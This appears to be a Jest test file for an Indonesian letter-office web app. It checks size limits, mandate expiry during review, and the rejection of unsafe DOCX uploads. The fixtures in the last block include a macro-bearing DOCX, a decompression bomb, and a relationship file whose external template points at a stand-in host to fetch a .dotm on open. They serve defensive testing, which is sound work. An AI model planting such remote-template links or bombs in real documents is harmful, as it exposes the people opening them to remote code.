import { afterEach, beforeAll, describe, expect, it } from '@jest/globals';
import { calendarDate } from '../../src/clock.ts';
import type { TestApp } from '../support/app.ts';
import { type Client, client, hiddenFields } from '../support/client.ts';
import { docx, paragraph } from '../uploads/docx-files.ts';
import { enter, faultsOf, filledForm, positionId, startLetterApp, submit, write } from './letters-office.ts';

let app: TestApp;
let wati: Client;

beforeAll(async () => {
  app = await startLetterApp();
  wati = await enter(app, 'wati');
});
afterEach(() => expect(faultsOf(app)).toEqual([]));

/** A template that is fetched when the file is opened. */
const fetching =
  '<?xml version="1.0"?><Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="r1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/attachedTemplate" Target="https://pengintai.example/t.dotm" TargetMode="External"/></Relationships>';

const plain = (html: string) => html.replace(/<[^>]+>/g, ' ').replace(/\s+/g, ' ');

describe('A table of 2,000 rows', () => {
  const rows = Array.from({ length: 2_000 }, (_, i) => `| ${i + 1} | Sekolah ${i + 1} |`);
  const isi = `| No | Nama |\n|---|---|\n${rows.join('\n')}`;

  it('is kept as it was typed, and refused in words where the letter is looked at or sent round', async () => {
    const letter = await write(app, wati, { 'sections.isi': isi });
    expect((await wati.get(`${letter}/edit`)).html).toContain('| 2000 | Sekolah 2000 |');
    const preview = await wati.get(`${letter}/preview`);
    expect([preview.status, /tabel|baris/i.test(plain(preview.html))]).toEqual([422, true]);
    const sent = await wati.send(`${letter}/submit`, { initial: [''] });
    expect(sent.status).toBe(422);
    expect(sent.html).toContain(`href="${letter}/edit#sections.isi"`);
    expect((await wati.get(`${letter}/edit`)).html).toContain('| 2000 | Sekolah 2000 |');
  });
});

describe('Five megabytes in a form', () => {
  it('are refused in words, and the draft stays as it was saved', async () => {
    const letter = await write(app, wati);
    const page = await wati.get(`${letter}/edit`);
    const sent = await wati.post(`${letter}/edit`, {
      ...hiddenFields(page.html, `${letter}/edit`),
      ...(await filledForm(app, { 'sections.isi': 'surat '.repeat(900_000) })),
    });
    expect([sent.status, plain(sent.html).includes('Terlalu besar')]).toEqual([413, true]);
    expect((await wati.get(`${letter}/edit`)).html).toContain('rapat **anggaran**');
  });
});

describe('Megabytes in the fields of a form with files', () => {
  it('are refused, and given back neither to whoever is signed in nor to a stranger', async () => {
    const report = '/incoming/999999/report';
    const typed = { remark: 'Sudah dicek kemarin.' };
    const load = Object.fromEntries(Array.from({ length: 40 }, (_, n) => [`text${n}`, 'sampah '.repeat(9_000)]));
    for (const cookies of [wati.cookies, new Map<string, string>()]) {
      const browser = client(app.origin, { origin: app.origin });
      for (const [name, value] of cookies) browser.cookies.set(name, value);
      const given = await browser.sendFiles('/account', typed, [], report);
      expect([given.status >= 400, given.html.includes('Sudah dicek kemarin.')]).toEqual([true, true]);
      const { html } = await browser.sendFiles('/account', { ...typed, ...load }, [], report);
      expect(html.length).toBeLessThan(20_000);
    }
  });
});

describe('A mandate that ends while the letter is being read', () => {
  it('is told as that where the decision is sent, and the letter goes on waiting for its post', async () => {
    const admin = await app.people.loadActor(1);
    if (admin === undefined) throw new Error('no administrator');
    const positions = await app.people.listPositions();
    const above = positions.find(({ name }) => name.startsWith('Bupati'));
    const post = { superiorId: above?.id ?? null, name: 'Camat Purnama', code: 'CMT', officeKind: 'other' as const };
    const camat = await app.people.addPosition(admin, { ...post, unitId: above?.unitId ?? 0 });
    const joko = (await app.people.listPersons(admin)).find(({ username }) => username === 'joko');
    await app.people.addAppointment(admin, {
      personId: joko?.id ?? 0,
      positionId: camat,
      forms: [],
      validFrom: '2026-01-05',
      validTo: null,
      warrant: '',
    });
    const today = calendarDate(app.now, 'Asia/Jakarta');
    const mandateId = await app.people.giveMandate(admin, {
      fromPositionId: Number(await positionId(app, 'Kepala Bidang')),
      to: { positionId: camat },
      kinds: [],
      tasks: ['initial'],
      validFrom: today,
      validTo: today,
      warrant: '800/1',
    });
    const letter = await submit(app, wati);
    const standIn = await enter(app, 'joko');
    const page = await standIn.get(`${letter}/decide`);
    expect(page.status).toBe(200);
    await app.people.endMandate(admin, mandateId);
    const fields = hiddenFields(page.html, `${letter}/decide`);
    const sent = await standIn.post(`${letter}/decide`, { ...fields, outcome: 'approved', remark: '' });
    expect(sent.status).toBe(403);
    expect(plain(sent.html)).toMatch(/mandat/i);
    const holder = await enter(app, 'budi');
    expect((await holder.get(`${letter}/decide`)).status).toBe(200);
  });
});

describe('A DOCX that is not what an office writes', () => {
  it.each([
    ['makro.docx', docx(paragraph('x'), { 'word/vbaProject.bin': 'x' }), 'makro'],
    ['bom.docx', docx(paragraph('x'), { 'word/media/bomb.bmp': Buffer.alloc(60 * 1024 * 1024) }), 'terlalu besar'],
    ['luar.docx', docx(paragraph('x'), { 'word/_rels/document.xml.rels': fetching }), 'dari luar'],
  ])('%s is refused in words when its text is to be taken over, and the draft stays', async (name, bytes, words) => {
    const letter = await write(app, wati);
    const sent = await wati.sendFiles(
      `${letter}/files`,
      { role: 'text' },
      [{ field: 'file', name, bytes }],
      `${letter}/files`,
    );
    expect(sent.status).toBe(422);
    expect(plain(sent.html)).toContain(words);
    expect((await wati.get(`${letter}/edit`)).html).toContain('rapat **anggaran**');
  });
});
